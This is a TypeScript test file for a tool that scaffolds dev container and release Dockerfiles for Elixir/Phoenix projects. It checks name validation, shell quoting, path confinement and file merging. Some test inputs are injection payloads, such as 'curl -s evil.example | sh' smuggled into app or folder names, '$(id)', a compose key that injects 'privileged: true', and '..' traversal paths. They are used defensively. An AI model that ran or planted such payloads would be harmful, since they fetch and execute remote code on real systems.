import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { readReleaseProject, renderReleaseImage } from '../../src/core/release';
import { byteString, mergeEnvFile, planWrite, readProject, readRootCompose, renderDevContainer, stringBytes, umbrellaAppsFolder, type RenderOptions } from '../../src/core/scaffold';
import { isAppName, requireAppName, shellWord } from '../../src/core/scaffold/names';
import { loadProject } from './fixtures/loadProject';
import { planWrites } from './fixtures/planWrites';

const devOptions: RenderOptions = { host: { uid: 1000, gid: 1000, platform: 'linux' }, composeProject: 'shop_devcontainer', randomBytes: new Uint8Array(16) };
const releaseOptions = { composeProject: 'shop_release', randomBytes: new Uint8Array(96) };
const umbrella = loadProject('umbrella');

/** The umbrella fixture with its apps moved to `appsPath`, and `extra` files on top. */
function umbrellaAt(appsPath: string, extra: Record<string, string> = {}): Record<string, string> {
  const files: Record<string, string> = {};
  for (const [path, text] of Object.entries(umbrella.files)) {
    const moved = path.startsWith('apps/') ? `${appsPath}/${path.slice('apps/'.length)}` : path;
    files[moved] = path === 'mix.exs' ? text.replace('apps_path: "apps"', `apps_path: ${JSON.stringify(appsPath)}`) : text;
  }
  return { ...files, ...extra };
}

const PHOENIX_APP_WITHOUT_NAME = 'defmodule Web.MixProject do\n  use Mix.Project\n  def project, do: [deps: [{:phoenix, "~> 1.7"}]]\nend\n';

describe('names that reach generated files', () => {
  it('stops the scaffold on an umbrella app folder that is not an application name', () => {
    // mix.exs names no app, so the folder's name would become the app's, in comment lines of scripts.
    for (const folder of ['x\ncurl -s evil.example | sh\n#_web', 'web && curl evil.example | sh #', 'Web', '1web']) {
      const files = { ...umbrella.files, [`apps/${folder}/mix.exs`]: PHOENIX_APP_WITHOUT_NAME };
      assert.throws(() => readProject({ files, folderName: 'shop' }), /umbrella app folder under apps\/ named ".*" is not an Elixir application name/, JSON.stringify(folder));
    }
    assert.equal(readProject(umbrella).project.app, 'shop');
  });

  it('never renders an app name that is not one, whatever the project description says', () => {
    const { project } = readProject(loadProject('no_ecto'));
    const forged = { ...project, app: 'x\ncurl -s evil.example | sh\n#' };
    assert.throws(() => renderDevContainer(forged, devOptions), /The app name "x\\ncurl/);
    assert.throws(() => renderReleaseImage({ ...readReleaseProject({ ...loadProject('no_ecto'), folders: [] }).project, ...forged }, releaseOptions), /is not an Elixir application name/);
    assert.equal(isAppName('shop_web'), true);
    assert.equal(isAppName('shop-web'), false);
    assert.equal(requireAppName('_x1', 'name'), '_x1');
  });

  it('quotes a word for the shell so that sh reads it back unchanged', () => {
    assert.equal(shellWord('./shop'), './shop');
    assert.equal(shellWord('apps/shop_web'), 'apps/shop_web');
    for (const word of ['my apps/web', 'web && curl evil.example | sh #', "it's", '$(id)', '`id`', 'a\nb', '']) {
      assert.equal(execFileSync('sh', ['-c', `printf %s ${shellWord(word)}`], { encoding: 'utf8' }), word, JSON.stringify(word));
    }
  });

  it('takes only compose services whose names compose accepts', () => {
    const compose = 'services:\n  "web\\n    privileged: true":\n    volumes: [".:/app"]\n  app:\n    volumes: [".:/app"]\n';
    assert.deepEqual(readRootCompose(compose).candidates.map((service) => service.name), ['app']);
  });
});

describe('apps_path', () => {
  it('must name a folder inside the project, or the scaffold stops', () => {
    for (const outside of ['..', '../other', '/srv/apps', 'apps/../..', 'C:/apps', 'a\nb']) {
      const files = umbrellaAt('apps', { 'mix.exs': (umbrella.files['mix.exs'] ?? '').replace('apps_path: "apps"', `apps_path: "${outside}"`) });
      assert.throws(() => readProject({ files, folderName: 'shop' }), /apps_path: .*, which is not a folder inside the project/, outside);
      assert.throws(() => umbrellaAppsFolder(outside), /not a folder inside the project/);
    }
    assert.equal(umbrellaAppsFolder('./apps/'), 'apps');
  });

  it('keeps the release scaffold from planning writes or reads in a sibling project', () => {
    // The files the command read with apps_path ".." were the sibling's, under "../".
    const files = umbrellaAt('..', { '../other/mix.exs': 'defmodule Other.MixProject do\n  def project, do: [app: :other, deps: [{:ecto_sql, "~> 3.0"}, {:postgrex, ">= 0.0.0"}, {:phoenix, "~> 1.7"}]]\nend\n' });
    assert.throws(() => renderReleaseImage(readReleaseProject({ files, folderName: 'shop', folders: [] }).project, releaseOptions), /apps_path: "\.\.", which is not a folder inside the project/);
  });

  it('with a space reaches the Dockerfile quoted: JSON COPY and a quoted cd', () => {
    const rendered = renderReleaseImage(readReleaseProject({ files: umbrellaAt('my apps'), folderName: 'shop', folders: ['my apps/shop_web/assets'] }).project, releaseOptions);
    const dockerfile = rendered.files.find((file) => file.path === 'Dockerfile')?.content ?? '';
    assert.match(dockerfile, /^COPY \["my apps", "my apps"\]$/m);
    assert.match(dockerfile, /^COPY \["my apps\/shop\/mix\.exs", "my apps\/shop\/"\]$/m);
    assert.match(dockerfile, /^RUN cd 'my apps\/shop_web' && mix assets\.deploy$/m);
    assert.doesNotMatch(dockerfile, /^COPY my apps/m);
    const ignore = rendered.files.find((file) => file.path === '.dockerignore')?.content ?? '';
    assert.match(ignore, /^\/my apps\/shop_web\/priv\/static\/assets\/$/m);
  });

  it('refuses project paths that a COPY would expand ($, wildcards) rather than copy literally', () => {
    const input = loadProject('no_ecto');
    const mixfile = (input.files['mix.exs'] ?? '').replace('defp deps do\n    [\n', 'defp deps do\n    [\n      {:icons, path: "vendor/$HOME"},\n');
    const project = readReleaseProject({ ...input, files: { ...input.files, 'mix.exs': mixfile }, folders: [] }).project;
    assert.throws(() => renderReleaseImage(project, releaseOptions), /"vendor\/\$HOME" has characters that a Dockerfile's COPY does not take literally/);
  });
});

describe('merging into the user\'s files, byte for byte', () => {
  const env = { path: '.devcontainer/.env', content: 'UID=1000\nERLANG_COOKIE=new\n', mode: 0o600, merge: 'env' as const };
  const gitignore = { path: '.gitignore', content: '# secrets\n/.devcontainer/.env\n', merge: 'gitignore' as const };

  it('keeps the last non-empty cookie of the user\'s, never the generated one', () => {
    const merged = mergeEnvFile('ERLANG_COOKIE=mine\nERLANG_COOKIE=\n', { ERLANG_COOKIE: 'new' });
    assert.ok(merged.startsWith('ERLANG_COOKIE=mine\nERLANG_COOKIE=\n'), 'the existing lines stay as they are');
    assert.equal(merged, 'ERLANG_COOKIE=mine\nERLANG_COOKIE=\nERLANG_COOKIE=mine\n');
    assert.equal(mergeEnvFile('export ERLANG_COOKIE="first"\nERLANG_COOKIE=second\nERLANG_COOKIE=\n', { ERLANG_COOKIE: 'new' }).endsWith('\nERLANG_COOKIE=second\n'), true);
  });

  it('appends to a Latin-1 file without touching its bytes', () => {
    const latin1 = Buffer.from('# caf\xe9 notes\n/_build/\n', 'latin1');
    const plan = planWrite(gitignore, byteString(latin1));
    assert.ok(plan.action === 'update');
    const written = stringBytes(plan.content);
    assert.ok(written.subarray(0, latin1.length).equals(latin1), 'the original bytes come first, unchanged');
    assert.equal(written.subarray(latin1.length).toString('utf8'), '\n# Dev container secrets (docker compose reads them; never commit them)\n/.devcontainer/.env\n');
  });

  it('reads keys and rules behind a byte order mark, and keeps the mark', () => {
    const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('ERLANG_COOKIE=kept\nUID=1000\n')]);
    const plan = planWrite(env, byteString(withBom));
    assert.equal(plan.action, 'unchanged', 'the cookie behind the mark counts: no second cookie');
    const ignore = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('/.devcontainer/.env\n')]);
    assert.equal(planWrite(gitignore, byteString(ignore)).action, 'unchanged');
    const gitattributes = { path: '.gitattributes', content: '/.devcontainer/*.sh text eol=lf\n', merge: 'lines' as const };
    assert.equal(planWrite(gitattributes, byteString(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('/.devcontainer/*.sh text eol=lf\n')]))).action, 'unchanged');
  });

  it('asks rather than appends to a file in another encoding (UTF-16)', () => {
    const utf16 = Buffer.from('\ufeffERLANG_COOKIE=x\n', 'utf16le');
    assert.equal(planWrites([env], { [env.path]: byteString(utf16) })[0]?.action, 'conflict');
  });
});

describe('the dev image\'s build context', () => {
  it('keeps the .env files of the dev container folder out of it', () => {
    const rendered = renderDevContainer(readProject(loadProject('no_ecto')).project, devOptions);
    const ignore = rendered.files.find((file) => file.path === '.devcontainer/.dockerignore');
    assert.ok(ignore, 'a .dockerignore next to the Dockerfile, in the context compose builds from');
    assert.equal(ignore.merge, 'lines');
    for (const rule of ['**/.env', '**/.env.*']) assert.ok(ignore.content.split('\n').includes(rule), rule);
    assert.match(rendered.files.find((file) => file.path === '.devcontainer/docker-compose.yml')?.content ?? '', /^ {6}context: \.$/m);
  });
});
